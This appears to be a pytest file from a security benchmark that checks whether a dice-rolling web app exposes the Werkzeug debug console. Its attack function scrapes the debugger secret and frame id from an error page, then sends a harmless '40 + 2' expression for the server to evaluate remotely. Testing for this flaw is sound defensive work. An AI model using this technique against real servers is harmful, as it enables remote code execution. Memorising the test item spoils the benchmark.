import logging
import re

import httpx

logging.getLogger("werkzeug").disabled = True


def attack(module, http_server) -> bool:
    base = http_server(module.make_app())
    try:
        page = httpx.get(base + "/?sides=x").text
    except httpx.HTTPError:
        return False
    secret = re.search(r'SECRET = "(\w+)"', page)
    frame = re.search(r'id="frame-(\d+)"', page)
    if not secret or not frame:
        return False
    query = {"__debugger__": "yes", "cmd": "40 + 2", "frm": frame[1], "s": secret[1]}
    return "42" in httpx.get(base, params=query).text


def test_honest_input(program, http_server):
    base = http_server(program.make_app())
    rolls = httpx.get(base + "/?sides=4&count=3").text.split()
    assert len(rolls) == 3
    assert all(1 <= int(value) <= 4 for value in rolls)


def test_attack_succeeds_on_vulnerable(vulnerable, http_server):
    assert attack(vulnerable, http_server)


def test_attack_fails_on_hardened(hardened, http_server):
    assert not attack(hardened, http_server)
